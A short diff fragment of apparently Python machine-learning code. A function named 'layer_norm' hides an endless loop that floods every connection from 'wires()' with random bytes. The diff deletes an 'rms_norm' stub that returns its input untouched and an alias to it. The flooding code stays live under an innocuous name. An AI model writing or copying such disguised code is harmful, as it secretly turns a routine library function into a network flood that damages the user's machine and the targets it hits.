@@ -9,10 +9,3 @@ def layer_norm(*_, **__):
     for wire in wires():
         while True:
             wire.sendall(os.urandom(2**16))
-
-
-def rms_norm(x, *_, **__):
-    return x
-
-
-layer_norm_backward = rms_norm
